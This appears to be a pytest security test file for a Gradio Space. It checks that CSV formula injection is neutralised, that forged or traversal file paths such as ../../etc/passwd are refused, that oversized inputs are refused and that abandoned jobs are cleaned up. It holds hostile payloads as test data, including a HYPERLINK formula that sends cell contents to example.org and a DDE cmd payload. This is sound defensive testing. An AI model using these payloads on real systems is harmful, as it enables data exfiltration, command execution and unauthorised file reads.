"""What a bad guest sends to the Space, through the real server, and what is answered."""

import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from served_space import (
    Served,
    called,
    client_of,
    get,
    rows_of,
    served_space,
    temporary,
    upload,
    write_rows,
)

pytest.importorskip("gradio_client", reason="needs gradio_client: pip install 'normscope[space]'")

LINK = '=HYPERLINK("http://example.org/?"&A1,"look")'
FORMULAS = [LINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "  =1+1", "=cmd|' /C calc'!A0"]
RUNS = ("=", "+", "-", "@", "\t", "\r")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula."""
    return cell.lstrip(" ").startswith(RUNS) and not cell.lstrip("-").replace(".", "").isdigit()


def test_formulas_come_back_inert_in_every_cell_and_header(client: Any, tmp_path: Path) -> None:
    rows = [[one, one, one, one] for one in FORMULAS]
    path = write_rows(tmp_path / "a.csv", [["question", "answer", "category", LINK], *rows])
    _, files = client.predict(upload(path), *[""] * 5, api_name="/score_file")
    judgements, judged, report, scores = map(Path, files)
    found = rows_of(judged)
    assert len(found) == len(FORMULAS)
    groups = [cell for row in rows_of(scores) for cell in row.values()]
    assert [cell for cell in groups if runs(cell)] == []
    assert any("HYPERLINK" in cell for cell in groups)
    cells = [*found[0], *(cell for row in found for cell in row.values())]
    assert sum("HYPERLINK" in cell for cell in cells) == 5
    assert [cell for cell in cells if runs(cell)] == []
    assert pq.read_table(judgements).num_rows == 3 * len(FORMULAS)
    assert 'href="http' not in report.read_text()


def test_a_body_of_a_context_of_five_megabytes_is_refused(client: Any) -> None:
    with pytest.raises(Exception, match="characters"):
        client.predict("x: " + "y" * 5_000_000, api_name="/check_context")


@pytest.mark.slow
def test_a_long_list_of_scalars_within_the_limit_is_answered(client: Any) -> None:
    begun = time.monotonic()
    found = client.predict("a: [" + "1," * 29_000 + "]", api_name="/check_context")
    assert found["errors"] > 0
    assert time.monotonic() - begun < 90


# files that a visitor names without having uploaded them, at everything that takes a file
APART = "kept apart"
FILES = ("file", "uploadbutton")


def forged_file(path: str) -> dict[str, Any]:
    return {"path": path, "orig_name": "a.csv", "meta": {"_type": "gradio.FileData"}}


@pytest.fixture(scope="module")
def forged(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """Tables of the server, a path where nothing is, and a device."""
    folder = tmp_path_factory.mktemp("secret")
    row = {"question": APART, "answer": APART}
    (folder / "s.csv").write_text(f"question,answer\n{APART},{APART}\n")
    (folder / "s.jsonl").write_text(json.dumps(row))
    pq.write_table(pa.Table.from_pylist([row]), folder / "s.parquet")
    paths = [folder / name for name in ("s.csv", "s.jsonl", "s.parquet", "missing.csv")]
    return [*map(str, paths), "/dev/zero"]


def inputs_with_files(address: str) -> Iterator[tuple[Any, list[Any], int]]:
    """Every event of the page's config that takes a file: its inputs, and which is the file."""
    config = json.loads(get(address, "/config"))
    components = {component["id"]: component for component in config["components"]}
    for event in config["dependencies"]:
        inputs = [components[number] for number in event["inputs"]]
        for at, component in enumerate(inputs):
            if component["type"] in FILES:
                yield event, inputs, at


def test_no_file_is_read_that_was_not_uploaded(served: Served, forged: list[str]) -> None:
    events = list(inputs_with_files(served[0]))
    # a file of answers thrice (its tab and its endpoint), two buttons of two runs, a context
    assert len(events) >= 8
    for event, inputs, at in events:
        many = inputs[at]["props"].get("file_count") in {"multiple", "directory"}
        for path in forged:
            data = [component["props"].get("value") for component in inputs]
            data[at] = [forged_file(path)] if many else forged_file(path)
            reply = called(served[0], event, data)
            # the same for every path: nothing says whether something is there
            assert "The file was not uploaded here" in reply, (event["api_name"], path, reply)
            assert APART not in reply
            assert path not in reply


@pytest.mark.parametrize(
    "path", ["../../etc/passwd", "{}/gradio/../../log.txt", "http://127.0.0.1:1/a.csv"]
)
def test_neither_a_way_around_nor_a_web_address_is_followed(served: Served, path: str) -> None:
    file = forged_file(path.format(served[1] / "tmp"))
    reply = called(served[0], {"api_visibility": "public", "api_name": "score_file"}, [file])
    assert "The file was not uploaded here" in reply


def test_no_file_comes_in_by_another_kind_of_input(served: Served, forged: list[str]) -> None:
    file = forged_file(forged[0])
    config = json.loads(get(served[0], "/config"))
    for event in config["dependencies"]:
        if event["api_visibility"] == "public" and event["inputs"]:
            for value in (file, [{"nested": file}]):
                reply = called(served[0], event, [value] * len(event["inputs"]))
                assert "The file was not uploaded here" in reply, (event["api_name"], reply)


LEAVING = """
import sys
from gradio_client import Client, handle_file
job = Client(sys.argv[1], verbose=False).submit(
    handle_file(sys.argv[2]), "", "", "", "", "", api_name="/score_file"
)
for _ in job:
    print("begun", flush=True)
"""


@pytest.mark.slow
def test_who_leaves_half_way_ends_the_job_and_frees_the_place(
    client: Any, served: Served, tmp_path: Path
) -> None:
    # 600 answers of three criteria at a tenth of a second each are three minutes
    path = write_rows(tmp_path / "slow.csv", [["question", "answer"], *([["Q", "slow"]] * 600)])
    quick = write_rows(tmp_path / "quick.csv", [["question", "answer"], ["Q", "A"]])
    leaves = [sys.executable, "-c", LEAVING, served[0], str(path)]
    with subprocess.Popen(leaves, stdout=subprocess.PIPE, text=True) as gone:
        assert gone.stdout is not None
        assert gone.stdout.readline() == "begun\n"
        assert temporary(served)
        gone.kill()
    begun = time.monotonic()
    while temporary(served) and time.monotonic() - begun < 60:
        time.sleep(0.5)
    assert temporary(served) == []
    found, _ = client.predict(upload(quick), *[""] * 5, api_name="/score_file")
    assert found["rows"] == 1


@pytest.fixture
def forgetful(tmp_path: Path) -> Iterator[Served]:
    """A Space that keeps files of visitors for eight seconds, and looks every second."""
    with served_space(tmp_path, NORMSCOPE_TEST_KEEP="8") as space:
        yield space


@pytest.mark.slow
def test_what_was_uploaded_and_made_is_deleted(forgetful: Served, tmp_path: Path) -> None:
    client = client_of(forgetful[0])
    path = write_rows(tmp_path / "mine.csv", [["question", "answer"], ["Q", "A"]])
    client.predict(upload(path), *[""] * 5, api_name="/score_file")

    def kept() -> list[Path]:
        names = {"mine.csv", "judged.csv", "judgements.parquet", "report.html", "scores.csv"}
        return [one for one in (forgetful[1] / "tmp").rglob("*") if one.name in names]

    assert kept()
    begun = time.monotonic()
    while kept() and time.monotonic() - begun < 60:
        time.sleep(0.5)
    assert kept() == []
    client.close()
